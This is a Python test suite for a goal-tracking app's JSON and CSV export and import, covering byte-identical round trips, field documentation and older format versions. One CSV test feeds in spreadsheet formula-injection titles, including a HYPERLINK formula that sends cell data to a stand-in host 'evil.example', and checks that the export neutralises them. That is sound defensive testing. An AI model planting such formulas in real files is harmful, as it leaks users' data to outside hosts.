"""Every figure out, and back in: the JSON export covers every table and field, an
import into a new file followed by a second export gives the same bytes, and the CSV
files are safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import re
import tempfile
from datetime import date, datetime, time, timedelta
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from smartgoals_app.domain.draft import GoalDraft, StrategyDraft, TaskDraft
from smartgoals_app.domain.enums import Cadence, Direction, MetricKind, TaskOutcome
from smartgoals_app.domain.review import Outcome, ReviewEntry
from smartgoals_app.io.data_export import (
    CSV_ENCODING,
    FORMAT_NAME,
    FORMAT_VERSION,
    column_kind,
    csv_cell,
    export_csv,
    export_data,
    exported_tables,
    neutralise,
)
from smartgoals_app.io.data_import import DataImportError, import_data
from smartgoals_app.services.demo import populate_demo
from smartgoals_app.services.drafts import DraftService
from smartgoals_app.services.goals import GoalService
from smartgoals_app.services.measurements import MeasurementService
from smartgoals_app.services.plan import PlanService, Reminder
from smartgoals_app.services.reviews import ReviewService
from smartgoals_app.services.strategies import StrategyService
from smartgoals_app.storage import repositories as repo
from smartgoals_app.storage import schema_version
from smartgoals_app.storage.database import Database, open_database
from tests.factories import signups_draft

DOC = Path(__file__).resolve().parents[2] / "docs" / "export-format.md"


_EMPTY: list[bytes] = []


def new_database(path: Path) -> Database:
    """A new, empty database file; copied from one made once, as running the
    migrations for each of hypothesis's examples took most of the test's time."""
    if not _EMPTY:
        with tempfile.TemporaryDirectory() as name:
            open_database(Path(name) / "empty.db", backup=False).close()
            _EMPTY.append((Path(name) / "empty.db").read_bytes())
    path.write_bytes(_EMPTY[0])
    return open_database(path, backup=False)


def round_trip(db: Database, folder: Path, today: date) -> tuple[bytes, bytes]:
    """(first export, export of a new file the first export was imported into)."""
    first, second = folder / "first.json", folder / "second.json"
    export_data(db, first)
    copy = new_database(folder / "copy.db")
    try:
        import_data(copy, first, today=today)
        export_data(copy, second)
    finally:
        copy.close()
    return first.read_bytes(), second.read_bytes()


def fill_every_table(db: Database, today: date, demo_ids: list[int] | None = None) -> None:
    """The demo goals plus what the demo leaves empty: an unfinished wizard draft,
    reminders already shown, a second workspace, a strategy archived with its goal, a
    review that raised a goal's targets (a target change) and one that repeated a goal."""
    ids = demo_ids if demo_ids is not None else populate_demo(db, today)  # copied in, or made
    with db.transaction() as session:
        repo.add_workspace(session, name="Client B — Café 🚀")
    set_aside = GoalService(db, today=lambda: today).save(
        signups_draft(today, strategy=StrategyDraft(statement="An old plan, set aside", networks=["x"]))
    )
    strategy_id = GoalService(db, today=lambda: today).load_draft(set_aside).strategy_id
    assert strategy_id is not None
    StrategyService(db).archive(strategy_id)
    goals = GoalService(db, today=lambda: today)
    reviews = ReviewService(db, goals=goals, plan=PlanService(db), today=lambda: today)
    stretched = reviews.sheet(ids[2]).spec
    reviews.raise_targets(
        ids[2],
        ReviewEntry(Outcome.STRETCH_REACHED, "Daily “stories” 🚀", "Ads"),
        benchmark=stretched.stretch * 2,
        stretch=stretched.stretch * 3,
        deadline=stretched.deadline + timedelta(days=30),
    )
    suggestion = reviews.sheet(ids[1]).suggestion
    assert suggestion is not None
    reviews.repeat(ids[1], ReviewEntry(Outcome.MISSED, "", "Posting late"), suggestion)
    DraftService(db).save(GoalDraft(title="Half-typed 🚀 goal", metric_name="Ventas"), page=3)
    plan = PlanService(db)
    task = plan.tasks()[0]
    plan.mark_reminded(Reminder("task", task.id, datetime(2026, 11, 20, 8, 30), "t", "m"))
    plan.mark_reminded(Reminder("checkin", task.goal_id, datetime(2026, 11, 21), "t", "m"))


def test_demo_data_comes_back_the_same(
    db: Database, tmp_path: Path, today: date, demo_ids: list[int]
) -> None:
    fill_every_table(db, today, demo_ids)
    first, second = round_trip(db, tmp_path, today)
    assert second == first
    document = json.loads(first)
    assert document["format"] == FORMAT_NAME
    assert document["format_version"] == FORMAT_VERSION
    assert document["schema_revision"] == schema_version.HEAD
    assert isinstance(document["app_version"], str)
    assert set(document["tables"]) == {table.name for table in exported_tables()}
    for table in exported_tables():
        rows = document["tables"][table.name]
        assert rows, f"the demo leaves {table.name} empty: the round trip does not prove it"
        assert all(list(row) == [c.name for c in table.columns] for row in rows)


def test_ids_and_the_calendar_uid_are_kept(
    db: Database, tmp_path: Path, today: date, demo_ids: list[int]
) -> None:
    """A moved file keeps its references, and the calendar export keeps its event UIDs."""
    fill_every_table(db, today, demo_ids)
    first, _second = round_trip(db, tmp_path, today)
    tables = json.loads(first)["tables"]
    copy = open_database(tmp_path / "copy.db", backup=False)
    try:
        assert [g.id for g in GoalService(copy, today=lambda: today).overview()] == [
            g.id for g in GoalService(db, today=lambda: today).overview()
        ]
        assert MeasurementService(copy).list(1) == MeasurementService(db).list(1)
    finally:
        copy.close()
    assert [row["key"] for row in tables["app_meta"]] == ["calendar_uid", "history_login"]


def test_values_are_written_as_documented(
    db: Database, tmp_path: Path, today: date, demo_ids: list[int]
) -> None:
    fill_every_table(db, today, demo_ids)
    export_data(db, tmp_path / "out.json")
    tables = json.loads((tmp_path / "out.json").read_text(encoding="utf-8"))["tables"]
    strategy = next(row for row in tables["strategy"] if row["business_start"])
    assert strategy["business_start"] == "09:00:00"
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d{6})?Z", strategy["created_at"])
    archived = [row for row in tables["strategy"] if row["archived_at"] is not None]
    assert [row["statement"] for row in archived] == ["An old plan, set aside"]
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d{6})?Z", archived[0]["archived_at"])
    goal = tables["goal"][0]
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", goal["deadline"])
    assert isinstance(goal["baseline_value"], float)
    assert isinstance(tables["task"][0]["paused"], bool)
    assert tables["reminder_sent"][0]["occurrence_start"] == "2026-11-20T08:30:00"


def test_the_document_names_every_table_and_field() -> None:
    """docs/export-format.md lists each table with each field, its type and whether it
    may be null, in the order the export writes them."""
    text = DOC.read_text(encoding="utf-8").split("\n## Tables\n", 1)[1]
    documented: dict[str, list[tuple[str, str, str]]] = {}
    current: list[tuple[str, str, str]] | None = None
    for line in text.splitlines():
        if heading := re.match(r"^### `(\w+)`", line):
            current = documented.setdefault(heading[1], [])
        elif current is not None and (row := re.match(r"^\| `(\w+)` \| (\w+) \| (yes|no) \|", line)):
            current.append((row[1], row[2], row[3]))
    expected = {
        table.name: [
            (column.name, column_kind(column), "yes" if column.nullable else "no") for column in table.columns
        ]
        for table in exported_tables()
    }
    assert documented == expected


# -- CSV -----------------------------------------------------------------------------
def read_csv(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "Excel needs the byte-order mark to read UTF-8"
    return list(csv.DictReader(io.StringIO(raw.decode(CSV_ENCODING), newline="")))


def test_csv_cells_that_a_spreadsheet_would_run_are_inert(db: Database, tmp_path: Path, today: date) -> None:
    goals = GoalService(db, today=lambda: today)
    titles = [
        '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
        "+1 more sign-ups",
        "-1 complaints a week",
        "@SUM(A1:A9) followers",
        "Plain “goal” 🚀 with = inside",
    ]
    for title in titles:
        goals.save(signups_draft(today, title=title))
    result = export_csv(db, tmp_path / "sheets")
    assert sorted(p.name for p in (tmp_path / "sheets").iterdir()) == sorted(
        f"{t.name}.csv" for t in exported_tables()
    )
    assert result.rows["goal"] == len(titles)
    cells = [row["title"] for row in read_csv(tmp_path / "sheets" / "goal.csv")]
    assert cells[:4] == ["'" + title for title in titles[:4]]
    assert cells[4] == titles[4]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_a_negative_number_stays_a_number_and_negative_text_is_inert() -> None:
    assert csv_cell("number", -5.0) == "-5.0"
    assert csv_cell("integer", -5) == "-5"
    assert csv_cell("text", "-5") == "'-5"
    assert csv_cell("text", "=1+1") == "'=1+1"
    # The services strip what the user types, so tabs and returns only start a cell
    # in a file edited by hand; they are made inert all the same.
    assert csv_cell("text", "\t=1+1") == "'\t=1+1"
    assert csv_cell("text", "\r=1+1") == "'\r=1+1"
    assert csv_cell("boolean", True) == "true"
    assert csv_cell("number", None) == ""
    assert neutralise("Café ☕") == "Café ☕"


def test_csv_numbers_and_dates_read_as_they_are(
    db: Database, tmp_path: Path, today: date, demo_ids: list[int]
) -> None:
    export_csv(db, tmp_path)
    goal = read_csv(tmp_path / "goal.csv")[0]
    assert float(goal["baseline_value"]) == 40.0
    assert date.fromisoformat(goal["deadline"]) > today
    assert goal["metric_key"] == "newsletter_signups"
    drafts = read_csv(tmp_path / "wizard_draft.csv")
    assert drafts == []


# -- a property-generated database ----------------------------------------------------
TODAY = date(2026, 11, 22)
# Any text a person can type: every script, emoji, punctuation; not control characters
# or lone surrogates, which no text field lets through.
words = st.text(
    alphabet=st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\u2028\u2029"),
    min_size=1,
    max_size=40,
).filter(lambda text: text.strip() != "")
amounts = st.floats(min_value=0, max_value=1e9, allow_nan=False, allow_infinity=False)


def _not_a_percent(unit: str) -> str:
    """A unit without "%" (a unit starting with one, after spaces, caps values at 100):
    what is left, or "units" when nothing but spaces is ("% " is blank without it)."""
    rest = unit.replace("%", "")
    return rest if rest.strip() else "units"


@st.composite
def goal_drafts(draw: st.DrawFn) -> GoalDraft:
    direction = draw(st.sampled_from(Direction))
    # Built up by addition from the smallest value, so rounding never crosses zero
    # or makes two targets equal.
    low = draw(amounts)
    middle = low + draw(st.floats(min_value=0.5, max_value=1e6))
    high = middle + draw(st.floats(min_value=0.5, max_value=1e6))
    if direction is Direction.LESS:
        baseline, benchmark, stretch = high, middle, low
    else:
        baseline, benchmark, stretch = low, middle, high
    start = TODAY - timedelta(days=draw(st.integers(0, 400)))
    return GoalDraft(
        strategy=StrategyDraft(
            statement=draw(words),
            networks=draw(st.lists(st.sampled_from(["x", "facebook", "tiktok", "all"]), unique=True)),
        ),
        network=draw(st.sampled_from(["x", "instagram", "youtube", "all"])),
        metric_key=draw(st.sampled_from([None, "custom", "followers"])),
        metric_name=draw(words),
        unit=_not_a_percent(draw(words)),
        direction=direction,
        kind=draw(st.sampled_from(MetricKind)),
        outcome_link=draw(st.sampled_from(["", "Followers turn into buyers"])),
        data_source=draw(words),
        baseline_value=baseline,
        baseline_date=start,
        title=draw(words),
        start_date=start,
        deadline=TODAY + timedelta(days=draw(st.integers(1, 900))),
        why=draw(words),
        impact=draw(st.sampled_from(["", "Más clientes", "売上が伸びる"])),
        benchmark_target=benchmark,
        stretch_target=stretch,
        cadence=draw(st.sampled_from(Cadence)),
        budget_per_month=draw(st.none() | amounts),
        hours_per_week=draw(st.none() | st.floats(min_value=0, max_value=168)),
        tasks=[
            TaskDraft(
                title=draw(words),
                rrule=draw(st.sampled_from(["FREQ=DAILY", "FREQ=WEEKLY;BYDAY=TU,TH", "FREQ=MONTHLY"])),
                start_date=start,
                start_time=time(draw(st.integers(0, 22)), draw(st.integers(0, 59))),
                duration_minutes=draw(st.integers(1, 60)),
                notes=draw(st.sampled_from(["", "🎯 Ziel"])),
            )
            for _ in range(draw(st.integers(1, 2)))
        ],
    )


checkins = st.lists(
    st.tuples(st.integers(0, 400), amounts, st.sampled_from(["", "Ça marche 👍", "=1+2"])), max_size=5
)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    drafts=st.lists(goal_drafts(), min_size=1, max_size=3),
    logged=checkins,
    lesson=st.sampled_from(["", "Ça marche 👍", "=1+2", "two\nlines"]),
    emptied=st.lists(st.booleans(), min_size=3, max_size=3),
)
def test_any_valid_database_comes_back_the_same(
    drafts: list[GoalDraft], logged: list[tuple[int, float, str]], lesson: str, emptied: list[bool]
) -> None:
    with tempfile.TemporaryDirectory(prefix="smartgoals-roundtrip-") as name:
        folder = Path(name)
        db = new_database(folder / "source.db")
        try:
            goals = GoalService(db, today=lambda: TODAY)
            ids = [goals.save(draft) for draft in drafts]
            measurements = MeasurementService(db, today=lambda: TODAY)
            for index, (days_ago, value, note) in enumerate(logged):
                measurements.log(ids[index % len(ids)], TODAY - timedelta(days=days_ago), value, note)
            plan = PlanService(db)
            # A goal saved with tasks may have them all deleted on the Plan tab later.
            for task in plan.tasks():
                if emptied[ids.index(task.goal_id)]:
                    plan.delete_task(task.id)
            for task in plan.tasks():
                plan.mark(task.id, task.start_date, TaskOutcome.DONE, "✓")
            reviews = ReviewService(db, goals=goals, plan=plan, today=lambda: TODAY)
            for goal_id in ids[: len(logged)]:  # the goals given a check-in can be reviewed
                reviews.close(goal_id, ReviewEntry(Outcome.MISSED, lesson, lesson))
            first, second = round_trip(db, folder, TODAY)
        finally:
            db.close()
    assert second == first
    assert len(json.loads(first)["tables"]["goal"]) == len(drafts)


def test_a_version_1_file_without_reviews_still_imports(db: Database, tmp_path: Path, today: date) -> None:
    """Files written before reviews existed have no review or target_change table."""
    populate_demo(db, today)
    export_data(db, tmp_path / "new.json")
    document = json.loads((tmp_path / "new.json").read_text(encoding="utf-8"))
    document["format_version"] = 1
    del document["tables"]["review"], document["tables"]["target_change"]
    (tmp_path / "old.json").write_text(json.dumps(document), encoding="utf-8")
    copy = new_database(tmp_path / "copy.db")
    try:
        import_data(copy, tmp_path / "old.json", today=today)
        assert len(GoalService(copy, today=lambda: today).overview()) == 3
    finally:
        copy.close()
    document["format_version"] = 2  # a version 2 file must have both tables
    (tmp_path / "bad.json").write_text(json.dumps(document), encoding="utf-8")
    other = new_database(tmp_path / "other.db")
    try:
        with pytest.raises(DataImportError, match="no table “review”"):
            import_data(other, tmp_path / "bad.json", today=today)
    finally:
        other.close()


def test_an_export_from_before_the_history_still_comes_in(db: Database, tmp_path: Path, today: date) -> None:
    populate_demo(db, today)
    export_data(db, tmp_path / "new.json")
    document = json.loads((tmp_path / "new.json").read_text(encoding="utf-8"))
    assert document["tables"]["change_history"], "the demo's own changes are in the history"
    document["format_version"] = 2
    del document["tables"]["change_history"]
    (tmp_path / "old.json").write_text(json.dumps(document), encoding="utf-8")
    copy = new_database(tmp_path / "copy.db")
    try:
        import_data(copy, tmp_path / "old.json", today=today)
        assert len(GoalService(copy, today=lambda: today).overview()) == 3
        with copy.engine.connect() as conn:  # the import itself is nobody's change
            assert conn.exec_driver_sql("SELECT COUNT(*) FROM change_history").scalar() == 0
    finally:
        copy.close()
